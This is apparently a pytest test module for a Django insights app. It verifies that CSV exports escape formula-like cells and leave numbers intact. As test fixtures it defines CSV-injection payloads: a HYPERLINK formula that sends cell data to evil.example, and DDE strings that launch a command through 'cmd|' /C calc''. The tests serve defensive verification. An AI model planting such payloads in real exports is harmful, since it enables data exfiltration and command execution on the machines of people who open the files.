"""Names that a spreadsheet would run as formulas, chosen by whoever drives the server (agent
ids, review criteria, blocker texts, DAG roles), come out of every CSV export, on the
dashboard and over REST, with a leading ``'``; figures stay plain numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from accounts.services import api_token_create
from insights.tables import insight_table
from insights.tallies import insight_tallies_rebuild
from reviews.models import ReviewResult
from tests.insights.conftest import D1, D3, build_history, in_range
from tests.insights.test_dag import run_dag  # noqa: F401  (a fixture)
from tests.support.factories import make_user
from tracker.models import Issue
from workflows.models import Agent, Step

pytestmark = pytest.mark.django_db

RANGE = {"since": D1.isoformat(), "until": D3.isoformat()}
HOSTILE = {
    "a1": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "a2": "+1+cmd|' /C calc'!A0",
}
CRITERION = "@SUM(1+1)*cmd|' /C calc'!A0"
BLOCKER = "-2+3+cmd|' /C calc'!A0"
ROLE = "\t=1+1"
OTHER_ROLE = "\r=1+1"


@pytest.fixture
def hostile(tmp_path, run_dag):  # noqa: F811
    history = build_history(tmp_path)
    for old, new in HOSTILE.items():
        Agent.objects.filter(agent_id=old).update(agent_id=new)
    for result in ReviewResult.objects.all():
        result.criteria_results = [
            {**c, "criterion": CRITERION if c["criterion"] == "Complete" else c["criterion"]}
            for c in result.criteria_results
        ]
        result.save(update_fields=["criteria_results"])
    Issue.objects.filter(description="Which API?").update(description=BLOCKER)
    _, _, until = run_dag
    until(900)
    Step.objects.filter(assigned_role="swe").update(assigned_role=ROLE)
    Step.objects.filter(assigned_role="human").update(assigned_role=OTHER_ROLE)
    insight_tallies_rebuild()
    return history


@pytest.fixture
def downloads(hostile):
    """Each export's CSV cells, from the dashboard page's download and from REST."""
    watcher = Client()
    watcher.force_login(make_user(username="wanda", groups=("Watchers",)))
    user = make_user(username="viewer", perms=["workflows.view_workflowsession"])
    _, secret = api_token_create(user=user, name="t")
    rest = Client()

    def cells(name: str) -> dict[str, list[list[str]]]:
        page = watcher.get(f"/insights/export/{name}.csv", RANGE)
        api = rest.get(f"/api/insights/{name}/csv", RANGE, HTTP_AUTHORIZATION=f"Bearer {secret}")
        assert page.status_code == api.status_code == 200
        return {
            "page": list(csv.reader(io.StringIO(page.content.decode()))),
            "rest": list(csv.reader(io.StringIO(api.content.decode()))),
        }

    return cells


def flat(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("agents", ["'" + HOSTILE["a1"], "'" + HOSTILE["a2"]]),
        ("agent-steps-per-day", ["'" + HOSTILE["a1"], "'" + HOSTILE["a2"]]),
        ("criteria", ["'" + CRITERION]),
        ("tracker-blockers", ["'" + BLOCKER]),
        ("dag-handoffs", ["'" + ROLE, "'" + OTHER_ROLE]),
        ("dag-load", ["'" + ROLE, "'" + OTHER_ROLE]),
    ],
)
def test_every_export_escapes_formula_cells(downloads, name, expected):
    for where, rows in downloads(name).items():
        found = flat(rows)
        for cell in expected:
            assert cell in found, (where, name, cell, rows)
        # Nothing a spreadsheet would run is left (a figure such as -25.75 is a number).
        risky = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(c)]
        assert risky == [], (where, name, risky)


def test_figures_stay_numbers(downloads):
    figures = {row[0]: row[1:] for row in insight_table(name="agents", filters=in_range()).rows}
    assert all(isinstance(n, int) for n in figures[HOSTILE["a1"]])
    for where, rows in downloads("agents").items():
        by_agent = {row[0]: row[1:] for row in rows[1:]}
        assert by_agent["'" + HOSTILE["a1"]] == [str(n) for n in figures[HOSTILE["a1"]]], where
    for where, rows in downloads("tracker-blockers").items():
        [blocker] = [row for row in rows if row[3] == "'" + BLOCKER]
        # The id and the age (negative while the history's dates lie ahead of the clock) are
        # figures, written as the numbers they are.
        assert blocker[0].isdigit(), where
        assert is_number(blocker[5]), where


def test_the_one_writer_escapes_text_and_leaves_numbers():
    from insights.tables import csv_text

    text = csv_text(
        ["name", "-n"],
        [["=1+1", -3], ["+x", -2.5], ["@y", 0], ["-z", None], ["\tt", 1], ["\rr", 2], ["ok", 3]],
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "'-n"],
        ["'=1+1", "-3"],
        ["'+x", "-2.5"],
        ["'@y", "0"],
        ["'-z", ""],
        ["'\tt", "1"],
        ["'\rr", "2"],
        ["ok", "3"],
    ]


def test_the_json_export_is_unchanged(hostile):
    rows = insight_table(name="agents", filters=in_range()).rows
    assert HOSTILE["a1"] in [row[0] for row in rows]
